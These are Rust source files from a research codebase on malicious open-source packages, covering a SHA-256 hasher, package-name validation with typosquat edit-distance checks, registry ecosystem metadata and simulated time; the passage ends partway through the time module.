#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Sha256([u8; 32]);

impl Sha256 {
    /// Hashes `data` in one shot.
    pub fn digest(data: &[u8]) -> Self {
        let mut hasher = Sha256Hasher::new();
        hasher.update(data);
        hasher.finalize()
    }

    /// Hashes the UTF-8 bytes of a string.
    pub fn digest_str(data: &str) -> Self {
        Self::digest(data.as_bytes())
    }

    /// The raw digest bytes.
    pub fn as_bytes(&self) -> &[u8; 32] {
        &self.0
    }

    /// Constructs a digest from raw bytes (e.g. parsed from a report).
    pub fn from_bytes(bytes: [u8; 32]) -> Self {
        Sha256(bytes)
    }

    /// A short 8-hex-character prefix, convenient for log lines and the
    /// DOT renderings of graph nodes.
    pub fn short(&self) -> String {
        self.0[..4].iter().map(|b| format!("{b:02x}")).collect()
    }
}

impl fmt::Display for Sha256 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for b in &self.0 {
            write!(f, "{b:02x}")?;
        }
        Ok(())
    }
}

/// Incremental SHA-256 hasher.
///
/// # Examples
///
/// ```
/// use oss_types::hash::Sha256Hasher;
/// use oss_types::Sha256;
///
/// let mut h = Sha256Hasher::new();
/// h.update(b"ab");
/// h.update(b"c");
/// assert_eq!(h.finalize(), Sha256::digest(b"abc"));
/// ```
#[derive(Debug, Clone)]
pub struct Sha256Hasher {
    state: [u32; 8],
    buffer: [u8; 64],
    buffer_len: usize,
    total_len: u64,
}

impl Sha256Hasher {
    /// Creates a fresh hasher.
    pub fn new() -> Self {
        Sha256Hasher {
            state: H0,
            buffer: [0; 64],
            buffer_len: 0,
            total_len: 0,
        }
    }

    /// Feeds `data` into the hash state.
    pub fn update(&mut self, data: &[u8]) {
        self.total_len += data.len() as u64;
        let mut rest = data;
        if self.buffer_len > 0 {
            let take = rest.len().min(64 - self.buffer_len);
            self.buffer[self.buffer_len..self.buffer_len + take].copy_from_slice(&rest[..take]);
            self.buffer_len += take;
            rest = &rest[take..];
            if self.buffer_len == 64 {
                let block = self.buffer;
                self.compress(&block);
                self.buffer_len = 0;
            }
        }
        while rest.len() >= 64 {
            let (block, tail) = rest.split_at(64);
            let mut b = [0u8; 64];
            b.copy_from_slice(block);
            self.compress(&b);
            rest = tail;
        }
        if !rest.is_empty() {
            self.buffer[..rest.len()].copy_from_slice(rest);
            self.buffer_len = rest.len();
        }
    }

    /// Finishes the hash and returns the digest.
    pub fn finalize(mut self) -> Sha256 {
        let bit_len = self.total_len.wrapping_mul(8);
        self.update(&[0x80]);
        // NB: update() already counted the 0x80; the length field must not
        // include padding, so stash the value computed beforehand.
        while self.buffer_len != 56 {
            self.update(&[0]);
        }
        let mut with_len = self.clone();
        with_len.update(&bit_len.to_be_bytes());
        let mut out = [0u8; 32];
        for (i, word) in with_len.state.iter().enumerate() {
            out[i * 4..i * 4 + 4].copy_from_slice(&word.to_be_bytes());
        }
        Sha256(out)
    }

    fn compress(&mut self, block: &[u8; 64]) {
        let mut w = [0u32; 64];
        for (i, chunk) in block.chunks_exact(4).enumerate() {
            w[i] = u32::from_be_bytes([chunk[0], chunk[1], chunk[2], chunk[3]]);
        }
        for i in 16..64 {
            let s0 = w[i - 15].rotate_right(7) ^ w[i - 15].rotate_right(18) ^ (w[i - 15] >> 3);
            let s1 = w[i - 2].rotate_right(17) ^ w[i - 2].rotate_right(19) ^ (w[i - 2] >> 10);
            w[i] = w[i - 16]
                .wrapping_add(s0)
                .wrapping_add(w[i - 7])
                .wrapping_add(s1);
        }
        let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = self.state;
        for i in 0..64 {
            let s1 = e.rotate_right(6) ^ e.rotate_right(11) ^ e.rotate_right(25);
            let ch = (e & f) ^ (!e & g);
            let temp1 = h
                .wrapping_add(s1)
                .wrapping_add(ch)
                .wrapping_add(K[i])
                .wrapping_add(w[i]);
            let s0 = a.rotate_right(2) ^ a.rotate_right(13) ^ a.rotate_right(22);
            let maj = (a & b) ^ (a & c) ^ (b & c);
            let temp2 = s0.wrapping_add(maj);
            h = g;
            g = f;
            f = e;
            e = d.wrapping_add(temp1);
            d = c;
            c = b;
            b = a;
            a = temp1.wrapping_add(temp2);
        }
        self.state[0] = self.state[0].wrapping_add(a);
        self.state[1] = self.state[1].wrapping_add(b);
        self.state[2] = self.state[2].wrapping_add(c);
        self.state[3] = self.state[3].wrapping_add(d);
        self.state[4] = self.state[4].wrapping_add(e);
        self.state[5] = self.state[5].wrapping_add(f);
        self.state[6] = self.state[6].wrapping_add(g);
        self.state[7] = self.state[7].wrapping_add(h);
    }
}

impl Default for Sha256Hasher {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(d: Sha256) -> String {
        d.to_string()
    }

    #[test]
    fn fips_180_4_vectors() {
        assert_eq!(
            hex(Sha256::digest(b"")),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
        assert_eq!(
            hex(Sha256::digest(b"abc")),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        assert_eq!(
            hex(Sha256::digest(
                b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
            )),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
        );
    }

    #[test]
    fn million_a_vector() {
        let data = vec![b'a'; 1_000_000];
        assert_eq!(
            hex(Sha256::digest(&data)),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0"
        );
    }

    #[test]
    fn incremental_matches_one_shot() {
        let data: Vec<u8> = (0..=255u8).cycle().take(1000).collect();
        for split in [0usize, 1, 63, 64, 65, 128, 999, 1000] {
            let mut h = Sha256Hasher::new();
            h.update(&data[..split]);
            h.update(&data[split..]);
            assert_eq!(h.finalize(), Sha256::digest(&data), "split at {split}");
        }
    }

    #[test]
    fn exact_block_boundary() {
        // 55, 56 and 64 bytes exercise the padding edge cases.
        for len in [55usize, 56, 63, 64, 119, 120] {
            let data = vec![0xabu8; len];
            let one = Sha256::digest(&data);
            let mut inc = Sha256Hasher::new();
            for b in &data {
                inc.update(std::slice::from_ref(b));
            }
            assert_eq!(inc.finalize(), one, "len {len}");
        }
    }

    #[test]
    fn short_prefix() {
        let d = Sha256::digest(b"abc");
        assert_eq!(d.short(), "ba7816bf");
        assert_eq!(d.short().len(), 8);
    }

    #[test]
    fn digest_str_matches_bytes() {
        assert_eq!(Sha256::digest_str("abc"), Sha256::digest(b"abc"));
    }

    #[test]
    fn from_bytes_round_trips() {
        let d = Sha256::digest(b"roundtrip");
        assert_eq!(Sha256::from_bytes(*d.as_bytes()), d);
    }
}
