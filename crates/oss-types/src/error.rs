//! Error types for parsing domain values.

use std::error::Error;
use std::fmt;

/// Error returned when a textual representation of a domain value
/// (package name, version, ecosystem, …) fails to parse.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    what: &'static str,
    input: String,
    reason: &'static str,
}

impl ParseError {
    /// Creates a parse error for `what` (e.g. `"package name"`) with the
    /// offending `input` and a short `reason`.
    pub fn new(what: &'static str, input: impl Into<String>, reason: &'static str) -> Self {
        Self {
            what,
            input: input.into(),
            reason,
        }
    }

    /// The kind of value that failed to parse.
    pub fn what(&self) -> &'static str {
        self.what
    }

    /// The input that failed to parse.
    pub fn input(&self) -> &str {
        &self.input
    }

    /// Why the input was rejected.
    pub fn reason(&self) -> &'static str {
        self.reason
    }
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "invalid {}: {:?} ({})",
            self.what, self.input, self.reason
        )
    }
}

impl Error for ParseError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_includes_all_parts() {
        let err = ParseError::new("version", "1..2", "empty component");
        let s = err.to_string();
        assert!(s.contains("version"));
        assert!(s.contains("1..2"));
        assert!(s.contains("empty component"));
    }

    #[test]
    fn accessors_round_trip() {
        let err = ParseError::new("package name", "UPPER", "uppercase not allowed");
        assert_eq!(err.what(), "package name");
        assert_eq!(err.input(), "UPPER");
        assert_eq!(err.reason(), "uppercase not allowed");
    }
}
