//! The ten OSS ecosystems covered by the corpus (paper §II-C).

use crate::error::ParseError;
use std::fmt;
use std::str::FromStr;

/// A package-registry ecosystem.
///
/// The paper's corpus spans ten ecosystems; PyPI, NPM and RubyGems carry
/// the overwhelming majority of malicious packages, and the per-ecosystem
/// analyses (Table VII, Fig. 4) are restricted to those three.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Ecosystem {
    /// The Python Package Index.
    PyPI,
    /// The Node.js package registry.
    Npm,
    /// The Ruby gem registry.
    RubyGems,
    /// The Java/Maven Central registry.
    Maven,
    /// The CocoaPods registry for Swift/Objective-C.
    Cocoapods,
    /// SourceForge project hosting.
    SourceForge,
    /// Docker Hub images.
    Docker,
    /// The PHP Composer (Packagist) registry.
    Composer,
    /// The .NET NuGet registry.
    NuGet,
    /// The Rust crates.io registry.
    Rust,
}

impl Ecosystem {
    /// All ten ecosystems, in the order used by the paper's tables.
    pub const ALL: [Ecosystem; 10] = [
        Ecosystem::PyPI,
        Ecosystem::Npm,
        Ecosystem::RubyGems,
        Ecosystem::Maven,
        Ecosystem::Cocoapods,
        Ecosystem::SourceForge,
        Ecosystem::Docker,
        Ecosystem::Composer,
        Ecosystem::NuGet,
        Ecosystem::Rust,
    ];

    /// The three ecosystems with mirror registries and per-ecosystem
    /// analyses in the paper (Fig. 4, Table VII).
    pub const MAJOR: [Ecosystem; 3] = [Ecosystem::Npm, Ecosystem::PyPI, Ecosystem::RubyGems];

    /// Canonical lowercase identifier, used in [`PackageId`] rendering.
    ///
    /// [`PackageId`]: crate::PackageId
    pub fn slug(self) -> &'static str {
        match self {
            Ecosystem::PyPI => "pypi",
            Ecosystem::Npm => "npm",
            Ecosystem::RubyGems => "rubygems",
            Ecosystem::Maven => "maven",
            Ecosystem::Cocoapods => "cocoapods",
            Ecosystem::SourceForge => "sourceforge",
            Ecosystem::Docker => "docker",
            Ecosystem::Composer => "composer",
            Ecosystem::NuGet => "nuget",
            Ecosystem::Rust => "rust",
        }
    }

    /// Human-readable display name as printed in the paper.
    pub fn display_name(self) -> &'static str {
        match self {
            Ecosystem::PyPI => "PyPI",
            Ecosystem::Npm => "NPM",
            Ecosystem::RubyGems => "RubyGems",
            Ecosystem::Maven => "Maven",
            Ecosystem::Cocoapods => "Cocoapods",
            Ecosystem::SourceForge => "SourceForge",
            Ecosystem::Docker => "Docker",
            Ecosystem::Composer => "Composer",
            Ecosystem::NuGet => "NuGet",
            Ecosystem::Rust => "Rust",
        }
    }

    /// Name of the metadata file a package in this ecosystem ships
    /// (paper §III-A, dependency-edge extraction).
    pub fn metadata_file(self) -> &'static str {
        match self {
            Ecosystem::Npm => "package.json",
            Ecosystem::PyPI => "requirements.txt",
            Ecosystem::RubyGems => "Gemfile",
            Ecosystem::Maven => "pom.xml",
            Ecosystem::Cocoapods => "Podfile",
            Ecosystem::SourceForge => "MANIFEST",
            Ecosystem::Docker => "Dockerfile",
            Ecosystem::Composer => "composer.json",
            Ecosystem::NuGet => "packages.config",
            Ecosystem::Rust => "Cargo.toml",
        }
    }

    /// Whether this ecosystem has mirror registries in the study
    /// (5 NPM + 12 PyPI + 6 RubyGems mirrors; paper §II-C).
    pub fn has_mirrors(self) -> bool {
        matches!(
            self,
            Ecosystem::Npm | Ecosystem::PyPI | Ecosystem::RubyGems
        )
    }

    /// Number of mirror registries the paper searched for this ecosystem.
    pub fn mirror_count(self) -> usize {
        match self {
            Ecosystem::Npm => 5,
            Ecosystem::PyPI => 12,
            Ecosystem::RubyGems => 6,
            _ => 0,
        }
    }
}

impl fmt::Display for Ecosystem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.display_name())
    }
}

impl FromStr for Ecosystem {
    type Err = ParseError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let lower = s.to_ascii_lowercase();
        Ecosystem::ALL
            .into_iter()
            .find(|e| e.slug() == lower)
            .ok_or_else(|| ParseError::new("ecosystem", s, "unknown ecosystem"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slug_round_trips() {
        for eco in Ecosystem::ALL {
            let parsed: Ecosystem = eco.slug().parse().unwrap();
            assert_eq!(parsed, eco);
        }
    }

    #[test]
    fn parse_is_case_insensitive() {
        assert_eq!("PyPi".parse::<Ecosystem>().unwrap(), Ecosystem::PyPI);
        assert_eq!("NPM".parse::<Ecosystem>().unwrap(), Ecosystem::Npm);
    }

    #[test]
    fn unknown_ecosystem_is_rejected() {
        let err = "conda".parse::<Ecosystem>().unwrap_err();
        assert_eq!(err.what(), "ecosystem");
    }

    #[test]
    fn mirror_counts_match_paper() {
        // 5 NPM + 12 PyPI + 6 RubyGems mirrors (paper §II-C).
        assert_eq!(Ecosystem::Npm.mirror_count(), 5);
        assert_eq!(Ecosystem::PyPI.mirror_count(), 12);
        assert_eq!(Ecosystem::RubyGems.mirror_count(), 6);
        assert_eq!(Ecosystem::Maven.mirror_count(), 0);
        assert!(!Ecosystem::Docker.has_mirrors());
    }

    #[test]
    fn all_contains_ten_distinct_ecosystems() {
        let mut slugs: Vec<_> = Ecosystem::ALL.iter().map(|e| e.slug()).collect();
        slugs.sort_unstable();
        slugs.dedup();
        assert_eq!(slugs.len(), 10);
    }
}
