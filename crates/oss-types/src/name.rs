//! Validated package names and typosquatting distance.

use crate::error::ParseError;
use std::fmt;
use std::str::FromStr;
use std::sync::Arc;

/// A validated, registry-style package name.
///
/// Names are non-empty, at most 214 bytes (the npm limit, which is the
/// strictest of the ecosystems studied), lowercase ASCII, and use only
/// `a-z`, `0-9`, `-`, `_` and `.`, starting with an alphanumeric
/// character. The name is reference-counted so the simulator can hand the
/// same name to thousands of graph nodes cheaply.
///
/// # Examples
///
/// ```
/// use oss_types::PackageName;
///
/// let name: PackageName = "bootstrap-sass".parse()?;
/// assert_eq!(name.as_str(), "bootstrap-sass");
/// assert!("".parse::<PackageName>().is_err());
/// assert!("Has Space".parse::<PackageName>().is_err());
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct PackageName(Arc<str>);

/// Maximum package-name length in bytes (the npm registry limit).
pub const MAX_NAME_LEN: usize = 214;

impl PackageName {
    /// Validates and constructs a package name.
    ///
    /// # Errors
    ///
    /// Returns [`ParseError`] if the name is empty, too long, or contains
    /// a character outside `[a-z0-9._-]`, or does not start with an
    /// alphanumeric character.
    pub fn new(name: &str) -> Result<Self, ParseError> {
        if name.is_empty() {
            return Err(ParseError::new("package name", name, "empty"));
        }
        if name.len() > MAX_NAME_LEN {
            return Err(ParseError::new("package name", name, "longer than 214 bytes"));
        }
        let first = name.as_bytes()[0];
        if !first.is_ascii_lowercase() && !first.is_ascii_digit() {
            return Err(ParseError::new(
                "package name",
                name,
                "must start with a lowercase letter or digit",
            ));
        }
        if !name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.'))
        {
            return Err(ParseError::new(
                "package name",
                name,
                "contains a character outside [a-z0-9._-]",
            ));
        }
        Ok(PackageName(Arc::from(name)))
    }

    /// The name as a string slice.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Levenshtein edit distance to another name.
    ///
    /// Used to detect *typosquatting* (a malicious name within a small
    /// edit distance of a popular legitimate name) and *name-changing*
    /// operations within a campaign (paper Fig. 12, operation CN).
    pub fn edit_distance(&self, other: &PackageName) -> usize {
        levenshtein(self.as_str(), other.as_str())
    }

    /// Whether this name is a plausible typosquat of `target`: within
    /// edit distance 2 but not identical.
    pub fn is_typosquat_of(&self, target: &PackageName) -> bool {
        self != target && self.edit_distance(target) <= 2
    }
}

impl fmt::Display for PackageName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl FromStr for PackageName {
    type Err = ParseError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        PackageName::new(s)
    }
}

impl AsRef<str> for PackageName {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

/// Levenshtein edit distance between two byte strings, O(|a|·|b|) time and
/// O(min(|a|,|b|)) space.
pub fn levenshtein(a: &str, b: &str) -> usize {
    let (a, b) = if a.len() < b.len() { (a, b) } else { (b, a) };
    let a: Vec<u8> = a.bytes().collect();
    let b: Vec<u8> = b.bytes().collect();
    if a.is_empty() {
        return b.len();
    }
    let mut prev: Vec<usize> = (0..=a.len()).collect();
    let mut cur = vec![0usize; a.len() + 1];
    for (j, &bj) in b.iter().enumerate() {
        cur[0] = j + 1;
        for (i, &ai) in a.iter().enumerate() {
            let cost = usize::from(ai != bj);
            cur[i + 1] = (prev[i] + cost).min(prev[i + 1] + 1).min(cur[i] + 1);
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[a.len()]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn valid_names_parse() {
        for name in ["a", "requests", "loglib-modules", "etc-crypto", "lib2.0_x"] {
            assert!(name.parse::<PackageName>().is_ok(), "{name} should parse");
        }
    }

    #[test]
    fn invalid_names_are_rejected() {
        for name in ["", "-leading-dash", "UPPER", "has space", ".dot", "emoji💣"] {
            assert!(
                name.parse::<PackageName>().is_err(),
                "{name:?} should be rejected"
            );
        }
        let long = "a".repeat(MAX_NAME_LEN + 1);
        assert!(long.parse::<PackageName>().is_err());
        let exactly = "a".repeat(MAX_NAME_LEN);
        assert!(exactly.parse::<PackageName>().is_ok());
    }

    #[test]
    fn levenshtein_basics() {
        assert_eq!(levenshtein("", ""), 0);
        assert_eq!(levenshtein("abc", ""), 3);
        assert_eq!(levenshtein("kitten", "sitting"), 3);
        assert_eq!(levenshtein("requests", "request"), 1);
        assert_eq!(levenshtein("colors", "colorslib"), 3);
    }

    #[test]
    fn levenshtein_is_symmetric() {
        assert_eq!(levenshtein("pylibsql", "pylibfont"), levenshtein("pylibfont", "pylibsql"));
    }

    #[test]
    fn typosquat_detection() {
        let legit: PackageName = "requests".parse().unwrap();
        let squat: PackageName = "request".parse().unwrap();
        let far: PackageName = "numpy".parse().unwrap();
        assert!(squat.is_typosquat_of(&legit));
        assert!(!far.is_typosquat_of(&legit));
        assert!(!legit.is_typosquat_of(&legit), "identical name is not a squat");
    }

    #[test]
    fn clone_shares_storage() {
        let a: PackageName = "shared".parse().unwrap();
        let b = a.clone();
        assert!(std::ptr::eq(a.as_str(), b.as_str()));
    }
}
