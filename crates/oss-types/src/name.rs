//! Validated package names and typosquatting distance.

use crate::error::ParseError;
use std::fmt;
use std::str::FromStr;
use std::sync::Arc;

/// A validated, registry-style package name.
///
/// Names are non-empty, at most 214 bytes (the npm limit, which is the
/// strictest of the ecosystems studied), lowercase ASCII, and use only
/// `a-z`, `0-9`, `-`, `_` and `.`, starting with an alphanumeric
/// character. The name is reference-counted so the simulator can hand the
/// same name to thousands of graph nodes cheaply.
///
/// # Examples
///
/// ```
/// use oss_types::PackageName;
///
/// let name: PackageName = "bootstrap-sass".parse()?;
/// assert_eq!(name.as_str(), "bootstrap-sass");
/// assert!("".parse::<PackageName>().is_err());
/// assert!("Has Space".parse::<PackageName>().is_err());
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct PackageName(Arc<str>);

/// Maximum package-name length in bytes (the npm registry limit).
pub const MAX_NAME_LEN: usize = 214;

impl PackageName {
    /// Validates and constructs a package name.
    ///
    /// # Errors
    ///
    /// Returns [`ParseError`] if the name is empty, too long, or contains
    /// a character outside `[a-z0-9._-]`, or does not start with an
    /// alphanumeric character.
    pub fn new(name: &str) -> Result<Self, ParseError> {
        if name.is_empty() {
            return Err(ParseError::new("package name", name, "empty"));
        }
        if name.len() > MAX_NAME_LEN {
            return Err(ParseError::new("package name", name, "longer than 214 bytes"));
        }
        let first = name.as_bytes()[0];
        if !first.is_ascii_lowercase() && !first.is_ascii_digit() {
            return Err(ParseError::new(
                "package name",
                name,
                "must start with a lowercase letter or digit",
            ));
        }
        if !name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.'))
        {
            return Err(ParseError::new(
                "package name",
                name,
                "contains a character outside [a-z0-9._-]",
            ));
        }
        Ok(PackageName(Arc::from(name)))
    }

    /// The name as a string slice.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Levenshtein edit distance to another name.
    ///
    /// Used to detect *typosquatting* (a malicious name within a small
    /// edit distance of a popular legitimate name) and *name-changing*
    /// operations within a campaign (paper Fig. 12, operation CN).
    pub fn edit_distance(&self, other: &PackageName) -> usize {
        levenshtein(self.as_str(), other.as_str())
    }

    /// Whether this name is a plausible typosquat of `target`: within
    /// edit distance 2 but not identical.
    pub fn is_typosquat_of(&self, target: &PackageName) -> bool {
        self != target && self.edit_distance(target) <= 2
    }
}

impl fmt::Display for PackageName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl FromStr for PackageName {
    type Err = ParseError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        PackageName::new(s)
    }
}

impl AsRef<str> for PackageName {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

/// Levenshtein edit distance between two byte strings, O(|a|·|b|) time and
/// O(min(|a|,|b|)) space.
pub fn levenshtein(a: &str, b: &str) -> usize {
    let (a, b) = if a.len() < b.len() { (a, b) } else { (b, a) };
    let a: Vec<u8> = a.bytes().collect();
    let b: Vec<u8> = b.bytes().collect();
    if a.is_empty() {
        return b.len();
    }
    let mut prev: Vec<usize> = (0..=a.len()).collect();
    let mut cur = vec![0usize; a.len() + 1];
    for (j, &bj) in b.iter().enumerate() {
        cur[0] = j + 1;
        for (i, &ai) in a.iter().enumerate() {
            let cost = usize::from(ai != bj);
            cur[i + 1] = (prev[i] + cost).min(prev[i + 1] + 1).min(cur[i] + 1);
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[a.len()]
}

/// Levenshtein distance when it is at most `bound`, `None` otherwise.
///
/// A length pre-check rejects pairs whose length difference already
/// exceeds the bound without touching the DP at all (every insertion or
/// deletion changes the length by one, so `|len(a) − len(b)|` is a lower
/// bound on the distance). The DP itself is *banded*: a cell `(i, j)`
/// with `|i − j| > bound` can only be reached by drifting more than
/// `bound` insertions/deletions off the diagonal, so its true value
/// exceeds the bound and the band outside is treated as unreachable.
/// When every cell of a row exceeds the bound the scan stops early —
/// typosquat censuses compare thousands of campaign names against
/// popular targets they share no prefix with, and almost all of them
/// exit on the first row or two.
///
/// Agrees with [`levenshtein`] on every pair within the bound
/// (property-tested in this module).
pub fn levenshtein_bounded(a: &str, b: &str, bound: usize) -> Option<usize> {
    let (a, b) = if a.len() < b.len() { (a, b) } else { (b, a) };
    let a = a.as_bytes();
    let b = b.as_bytes();
    if b.len() - a.len() > bound {
        return None;
    }
    if a.is_empty() {
        return Some(b.len()); // ≤ bound by the length pre-check
    }
    // Cells outside the band hold this sentinel: large enough to never
    // win a `min`, small enough that `+ 1` cannot overflow.
    let unreachable = usize::MAX / 2;
    let mut prev: Vec<usize> = (0..=a.len())
        .map(|i| if i <= bound { i } else { unreachable })
        .collect();
    let mut cur = vec![unreachable; a.len() + 1];
    for (j, &bj) in b.iter().enumerate() {
        cur.iter_mut().for_each(|c| *c = unreachable);
        let lo = (j + 1).saturating_sub(bound);
        let hi = (j + 1 + bound).min(a.len());
        if lo == 0 {
            cur[0] = j + 1;
        }
        let mut row_min = if lo == 0 { cur[0] } else { unreachable };
        for i in lo.max(1)..=hi {
            let cost = usize::from(a[i - 1] != bj);
            let value = (prev[i - 1] + cost).min(prev[i] + 1).min(cur[i - 1] + 1);
            cur[i] = value;
            row_min = row_min.min(value);
        }
        if row_min > bound {
            return None; // the whole band already exceeds the bound
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    let distance = prev[a.len()];
    (distance <= bound).then_some(distance)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn valid_names_parse() {
        for name in ["a", "requests", "loglib-modules", "etc-crypto", "lib2.0_x"] {
            assert!(name.parse::<PackageName>().is_ok(), "{name} should parse");
        }
    }

    #[test]
    fn invalid_names_are_rejected() {
        for name in ["", "-leading-dash", "UPPER", "has space", ".dot", "emoji💣"] {
            assert!(
                name.parse::<PackageName>().is_err(),
                "{name:?} should be rejected"
            );
        }
        let long = "a".repeat(MAX_NAME_LEN + 1);
        assert!(long.parse::<PackageName>().is_err());
        let exactly = "a".repeat(MAX_NAME_LEN);
        assert!(exactly.parse::<PackageName>().is_ok());
    }

    #[test]
    fn levenshtein_basics() {
        assert_eq!(levenshtein("", ""), 0);
        assert_eq!(levenshtein("abc", ""), 3);
        assert_eq!(levenshtein("kitten", "sitting"), 3);
        assert_eq!(levenshtein("requests", "request"), 1);
        assert_eq!(levenshtein("colors", "colorslib"), 3);
    }

    #[test]
    fn bounded_levenshtein_basics() {
        assert_eq!(levenshtein_bounded("", "", 2), Some(0));
        assert_eq!(levenshtein_bounded("requests", "request", 2), Some(1));
        assert_eq!(levenshtein_bounded("reqests", "requests", 2), Some(1));
        assert_eq!(levenshtein_bounded("kitten", "sitting", 2), None);
        assert_eq!(levenshtein_bounded("kitten", "sitting", 3), Some(3));
        // Length difference alone exceeds the bound: pruned before the DP.
        assert_eq!(levenshtein_bounded("abc", "abcdefgh", 2), None);
        assert_eq!(levenshtein_bounded("colors", "colorslib", 2), None);
    }

    #[test]
    fn bounded_levenshtein_is_symmetric() {
        for (a, b) in [("pylibsql", "pylibfont"), ("flask", "flask2"), ("a", "abc")] {
            for bound in 0..4 {
                assert_eq!(
                    levenshtein_bounded(a, b, bound),
                    levenshtein_bounded(b, a, bound),
                    "{a} vs {b} at bound {bound}"
                );
            }
        }
    }

    #[test]
    fn levenshtein_is_symmetric() {
        assert_eq!(levenshtein("pylibsql", "pylibfont"), levenshtein("pylibfont", "pylibsql"));
    }

    #[test]
    fn typosquat_detection() {
        let legit: PackageName = "requests".parse().unwrap();
        let squat: PackageName = "request".parse().unwrap();
        let far: PackageName = "numpy".parse().unwrap();
        assert!(squat.is_typosquat_of(&legit));
        assert!(!far.is_typosquat_of(&legit));
        assert!(!legit.is_typosquat_of(&legit), "identical name is not a squat");
    }

    #[test]
    fn clone_shares_storage() {
        let a: PackageName = "shared".parse().unwrap();
        let b = a.clone();
        assert!(std::ptr::eq(a.as_str(), b.as_str()));
    }
}
