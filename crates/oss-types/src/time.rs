//! Simulated time.
//!
//! Every timestamp in the reproduction is a [`SimTime`]: minutes elapsed
//! since the *simulation epoch*, 2017-01-01 00:00. Using an explicit
//! simulated clock keeps the entire study deterministic (no host-clock
//! reads) while remaining fine-grained enough to model the hours-scale
//! race between mirror synchronization and package removal (paper Fig. 5).

use crate::error::ParseError;
use std::fmt;
use std::ops::{Add, AddAssign, Sub};
use std::str::FromStr;

/// Year of the simulation epoch (`SimTime::EPOCH` is 2017-01-01 00:00).
pub const EPOCH_YEAR: i32 = 2017;

const MINUTES_PER_HOUR: u64 = 60;
const MINUTES_PER_DAY: u64 = 24 * MINUTES_PER_HOUR;

/// A span of simulated time, stored as whole minutes.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct SimDuration(u64);

impl SimDuration {
    /// Zero-length duration.
    pub const ZERO: SimDuration = SimDuration(0);

    /// A duration of `n` minutes.
    pub const fn minutes(n: u64) -> Self {
        SimDuration(n)
    }

    /// A duration of `n` hours.
    pub const fn hours(n: u64) -> Self {
        SimDuration(n * MINUTES_PER_HOUR)
    }

    /// A duration of `n` days.
    pub const fn days(n: u64) -> Self {
        SimDuration(n * MINUTES_PER_DAY)
    }

    /// A duration of `n` (365-day) years. Calendar years are handled by
    /// [`SimTime`]; this helper is only used for coarse thresholds such as
    /// "active period < 3 years" (paper Fig. 9).
    pub const fn years(n: u64) -> Self {
        SimDuration(n * 365 * MINUTES_PER_DAY)
    }

    /// Total whole minutes.
    pub const fn as_minutes(self) -> u64 {
        self.0
    }

    /// Total whole hours (truncating).
    pub const fn as_hours(self) -> u64 {
        self.0 / MINUTES_PER_HOUR
    }

    /// Total whole days (truncating).
    pub const fn as_days(self) -> u64 {
        self.0 / MINUTES_PER_DAY
    }

    /// Fractional days, for CDF plotting.
    pub fn as_days_f64(self) -> f64 {
        self.0 as f64 / MINUTES_PER_DAY as f64
    }

    /// Fractional (365-day) years, for CDF plotting (paper Fig. 9).
    pub fn as_years_f64(self) -> f64 {
        self.as_days_f64() / 365.0
    }

    /// Saturating subtraction.
    pub fn saturating_sub(self, other: SimDuration) -> SimDuration {
        SimDuration(self.0.saturating_sub(other.0))
    }
}

impl Add for SimDuration {
    type Output = SimDuration;

    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 + rhs.0)
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let days = self.as_days();
        let hours = self.as_hours() % 24;
        let minutes = self.as_minutes() % 60;
        write!(f, "{days}d{hours:02}h{minutes:02}m")
    }
}

/// An instant of simulated time: minutes since 2017-01-01 00:00.
///
/// `SimTime` supports proper Gregorian-calendar conversion so that release
/// timelines (paper Fig. 2, Fig. 8) can be bucketed by calendar month and
/// printed as dates.
#[derive(
